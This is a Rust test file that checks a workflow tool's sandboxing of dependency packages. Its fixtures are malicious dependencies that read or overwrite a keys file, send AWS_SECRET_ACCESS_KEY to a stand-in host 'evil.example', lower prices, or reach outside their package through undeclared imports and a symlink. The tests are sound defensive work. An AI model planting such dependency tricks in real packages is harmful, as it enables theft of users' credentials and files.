//! What a dependency may not do, whatever its manifest and its sources say.

use orchestra_tests::{orchc::Ran, server::Server};

use super::victim::{Victim, asking_for, reading};

/// A project that needs the package `kit`, which lies beside it and holds these files.
fn needing(victim: &Victim, permissions: &str, kit: &[(&str, &str)]) {
    let workplace = &victim.workplace;
    workplace.write(
        "orchestra.toml",
        &format!(
            "[package]\nname = \"victim\"\n\n[ledger]\noverlay = \"ledger/\"\n\n\
             [dependencies]\nkit = {{ path = \"../kit\" }}\n{permissions}"
        ),
    );
    workplace.write("../kit/orchestra.toml", "[package]\nname = \"kit\"\n");
    for (path, text) in kit {
        workplace.write(&format!("../kit/{path}"), text);
    }
}

/// A template that asks `harmless`, and then calls one of the dependency's.
const MAIN: &str = "use subnet harmless\nuse kit.lib_of { work }\n\ntemplate main() -> json {\n  \
                    call harmless.get {}\n  call work {}\n}\n";

#[test]
fn a_dependency_reaches_no_file_that_the_root_has_not_granted() {
    const READS: &str = "template work() -> json {\n  call _quietly {}\n}\n\n\
        template _quietly() -> json {\n  call sys.read_file { path: \"keys.txt\" }\n}\n";
    const WRITES: &str = "template work() -> json {\n  \
        call sys.write_file { path: \"keys.txt\", text: \"pwned\" }\n}\n";
    for (source, does, chain) in [
        (
            READS,
            "`kit` reads files",
            "`main` calls `work`, which calls `_quietly`, which calls `sys.read_file`",
        ),
        (WRITES, "`kit` writes files", "`main` calls `work`, which calls `sys.write_file`"),
    ] {
        let victim = Victim::new(&[], MAIN);
        // Its own manifest permits nothing here.
        let itself = "[package]\nname = \"kit\"\n\n[permissions]\nfiles = [\"kit\"]\n";
        needing(&victim, "", &[("orchestra.toml", itself), ("lib_of.orch", source)]);
        victim.workplace.write("keys.txt", "c4nary");
        let words = ["E0704", "orchestra.toml:8:1", does, chain, "files = [\"kit\"]"];
        for command in [&["run", "main.orch"][..], &["plan", "main.orch"]] {
            victim.assert_refused(&victim.run(command), &words);
        }
        assert_eq!(victim.workplace.files()[std::path::Path::new("project/keys.txt")], b"c4nary");
        // Where the root permits it, it may.
        needing(&victim, "\n[permissions]\nfiles = [\"kit\"]\n", &[("lib_of.orch", source)]);
        let ran = victim.run(&["run", "main.orch"]);
        assert_eq!(ran.code, Some(0), "{ran:#?}");
    }
}

#[test]
fn a_dependency_of_a_dependency_reaches_no_file_by_its_grant() {
    let victim = Victim::new(&[], MAIN);
    let manifest = "[package]\nname = \"kit\"\n\n[dependencies]\ninner = { path = \"../inner\" }\n";
    let calls = "use inner.files { read }\n\ntemplate work() -> json {\n  call read {}\n}\n";
    needing(
        &victim,
        "\n[permissions]\nfiles = [\"kit\"]\n",
        &[("orchestra.toml", manifest), ("lib_of.orch", calls)],
    );
    victim
        .workplace
        .write("keys.txt", "c4nary")
        .write("../inner/orchestra.toml", "[package]\nname = \"inner\"\n")
        .write(
            "../inner/files.orch",
            "template read() -> json {\n  call sys.read_file { path: \"keys.txt\" }\n}\n",
        );
    victim.assert_refused(&victim.run(&["run", "main.orch"]), &["E0704", "`inner` reads files"]);
}

#[test]
fn a_dependency_brings_no_service() {
    let server = Server::answering("1");
    let victim = Victim::new(&[reading("mine", &server.url())], MAIN);
    // Nor does it replace one that the root has.
    let evil = asking_for("AWS_SECRET_ACCESS_KEY", "harmless", "https://evil.example");
    let own = asking_for("AWS_SECRET_ACCESS_KEY", "evil", "https://evil.example");
    needing(
        &victim,
        "",
        &[
            ("orchestra.toml", "[package]\nname = \"kit\"\n\n[ledger]\noverlay = \"ledger\"\n"),
            ("ledger/subnets/harmless.json", &evil.text()),
            ("ledger/subnets/evil.json", &own.text()),
            (
                "lib_of.orch",
                "use subnet harmless\n\ntemplate work() -> json {\n  call harmless.get {}\n}\n",
            ),
            ("evil.orch", "use subnet evil\n\ntemplate work() -> json {\n  call evil.get {}\n}\n"),
        ],
    );
    let ran = victim.run(&["run", "main.orch"]);
    assert_eq!((ran.code, victim.proxy.connections()), (Some(0), 0), "{ran:#?}");
    assert_eq!(victim.harmless.requests().len(), 2);
    let ran = victim.run(&["check"]);
    assert!(
        ran.stderr.contains("`kit` brings an overlay")
            || ran.stdout.contains("`kit` brings an overlay"),
        "{ran:#?}"
    );
    victim.workplace.write("main.orch", &MAIN.replace("lib_of", "evil"));
    let ran: Ran = victim.run(&["run", "main.orch"]);
    assert_eq!((ran.code, &*ran.stdout), (Some(1), ""), "{ran:#?}");
    assert!(ran.stderr.contains("E0401"), "{ran:#?}");
    assert_eq!(victim.proxy.connections(), 0);
}

#[test]
fn a_dependency_lowers_no_price() {
    const WORK: &str = "use subnet desearch\n\ntemplate work() -> json {\n  \
        let found = call desearch.web_search { query: \"tea\" } with { price: 0.0000001usd }\n  \
        found.data.len().to_text()\n}\n";
    const CALLS: &str = "use kit.lib_of { work }\n\n\
        template main() -> json with { budget: 0.0000002usd } {\n  call work {}\n}\n";
    let victim = Victim::new(&[], CALLS);
    let manifest = "[package]\nname = \"kit\"\n\n[prices]\n\"desearch.web_search\" = \"0.0000001usd\"\n\
        \n[rates]\ntao = { usd = \"0.01\", on = \"2026-11-22\" }\n";
    needing(&victim, "", &[("orchestra.toml", manifest), ("lib_of.orch", WORK)]);
    victim.assert_refused(&victim.run(&["run", "main.orch"]), &["E060"]);
    let ran = victim.run(&["check"]);
    let told = format!("{}{}", ran.stdout, ran.stderr);
    assert!(told.contains("`kit` brings prices and rates"), "{ran:#?}");
    // What the root itself says that it pays holds for its dependencies too.
    let own = "\n[prices]\n\"desearch.web_search\" = \"0.0000001usd\"\n";
    needing(&victim, own, &[("orchestra.toml", manifest), ("lib_of.orch", WORK)]);
    let ran = victim.run(&["run", "main.orch", "--sandbox"]);
    assert_eq!(ran.code, Some(0), "{ran:#?}");
}

#[test]
fn what_a_dependency_provides_catches_no_call_of_the_root() {
    const CALLS: &str = "use capability search\nuse kit.lib_of { word }\n\n\
        template main() -> json {\n  let found = call search.web { query: word() } with {\n    \
        route: cheapest,\n  } else { hits: [] }\n  found.hits.len().to_text()\n}\n";
    const CATCHES: &str = "use subnet harmless\nuse capability search\n\n\
        fn word() -> string = \"tea\"\n\n\
        provide search.web by harmless.get {\n  request: _ => {},\n  response: _ => { hits: [] },\n}\n";
    let victim = Victim::new(&[], CALLS);
    needing(&victim, "", &[("lib_of.orch", CATCHES)]);
    let catching = victim.run(&["plan", "main.orch", "--format", "json"]).json();
    needing(&victim, "", &[("lib_of.orch", "fn word() -> string = \"tea\"\n")]);
    let plain = victim.run(&["plan", "main.orch", "--format", "json"]).json();
    assert!(plain["effects"]["operations"].as_array().is_some_and(|it| !it.is_empty()));
    assert_eq!(catching["effects"], plain["effects"]);
    assert!(!catching.to_string().contains("harmless.get"), "{catching:#}");
    victim.assert_silent();
}

#[test]
fn a_dependency_uses_no_package_that_its_manifest_does_not_name() {
    let victim = Victim::new(&[], MAIN);
    let source = "use other.secrets { key }\n\ntemplate work() -> json { key() }\n";
    needing(&victim, "other = { path = \"../other\" }\n", &[("lib_of.orch", source)]);
    victim
        .workplace
        .write("../other/orchestra.toml", "[package]\nname = \"other\"\n")
        .write("../other/secrets.orch", "fn key() -> string = \"c4nary\"\n");
    victim.assert_refused(&victim.run(&["run", "main.orch"]), &["E0204", "other.secrets"]);
    // Nor a file of the root, or of whatever lies around it.
    let source =
        "use \"../project/main.orch\" { main }\n\ntemplate work() -> json {\n  call main {}\n}\n";
    needing(&victim, "", &[("lib_of.orch", source)]);
    victim.assert_refused(&victim.run(&["run", "main.orch"]), &["E0204", "../project/main.orch"]);
    let outside = victim.workplace.project().join("../kit/leak.orch");
    std::os::unix::fs::symlink(victim.workplace.project().join("main.orch"), outside).unwrap();
    let source = "use \"./leak.orch\" { main }\n\ntemplate work() -> json {\n  call main {}\n}\n";
    needing(&victim, "", &[("lib_of.orch", source)]);
    victim.assert_refused(&victim.run(&["run", "main.orch"]), &["E0204", "leak.orch"]);
}
